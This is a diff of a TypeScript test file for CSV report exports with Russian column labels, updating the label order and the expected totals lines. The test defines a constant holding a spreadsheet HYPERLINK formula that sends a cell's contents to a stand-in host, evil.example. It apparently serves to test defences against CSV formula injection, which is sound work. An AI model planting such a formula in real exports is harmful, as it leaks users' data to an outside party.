@@ -25,8 +25,8 @@ const WORDS: Record<Lang, { total: string; yes: string; no: string; comparison: 
 };
 const RU_FIGURES = [
   'Поступило', 'Рассмотрено', 'Решено положительно', 'Разъяснено', 'Отказано', 'Оставлено без рассмотрения', 'Отозвано', 'На рассмотрении',
-  'Просрочено', 'Отвечено в срок', 'Доля положительных от рассмотренных', 'Доля положительных от поступивших', 'Доля отвеченных в срок',
-  'Получено отзывов', 'Удовлетворены', 'Доля удовлетворённых',
+  'Просрочено', 'Отвечено в срок', 'Получено отзывов', 'Удовлетворены',
+  'Доля положительных от рассмотренных', 'Доля положительных от поступивших', 'Доля отвеченных в срок', 'Доля удовлетворённых',
 ];
 const INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")';
 
@@ -226,16 +226,17 @@ describe('report exports', () => {
   });
 
   it('writes semicolons with decimal commas for ru and kk, commas with decimal points for en or sep=comma', async () => {
-    // 2025-01-01..2025-03-31: 4 received, 3 decided (1 positive, 1 explained, 1 rejected), 1 pending, 2 on time.
+    // 2025-01-01..2025-03-31: 4 received, 3 decided (1 positive, 1 explained, 1 rejected), 1 pending, 2 on time,
+    // no feedback (so the satisfied share is empty).
     const totalsLine = (body: Buffer) => body.toString('utf8').split('\r\n').find((l) => l.startsWith('Итого') || l.startsWith('Total'))!;
     const ru = (await download(`${A}&format=csv&groupBy=none`)).body as Buffer;
-    expect(totalsLine(ru)).toBe('Итого;4;3;1;1;1;0;0;1;0;2;0,3333;0,25;0,6667');
+    expect(totalsLine(ru)).toBe('Итого;4;3;1;1;1;0;0;1;0;2;0;0;0,3333;0,25;0,6667;');
     const comma = (await download(`${A}&format=csv&groupBy=none&sep=comma`)).body as Buffer;
-    expect(totalsLine(comma)).toBe('Итого,4,3,1,1,1,0,0,1,0,2,0.3333,0.25,0.6667');
+    expect(totalsLine(comma)).toBe('Итого,4,3,1,1,1,0,0,1,0,2,0,0,0.3333,0.25,0.6667,');
     const en = (await download(`${A}&format=csv&groupBy=none&lang=en`)).body as Buffer;
-    expect(totalsLine(en)).toBe('Total,4,3,1,1,1,0,0,1,0,2,0.3333,0.25,0.6667');
+    expect(totalsLine(en)).toBe('Total,4,3,1,1,1,0,0,1,0,2,0,0,0.3333,0.25,0.6667,');
     const enSemicolon = (await download(`${A}&format=csv&groupBy=none&lang=en&sep=semicolon`)).body as Buffer;
-    expect(totalsLine(enSemicolon)).toBe('Total;4;3;1;1;1;0;0;1;0;2;0,3333;0,25;0,6667');
+    expect(totalsLine(enSemicolon)).toBe('Total;4;3;1;1;1;0;0;1;0;2;0;0;0,3333;0,25;0,6667;');
   });
 
   it('writes a period with nothing received as a row of zeros', async () => {
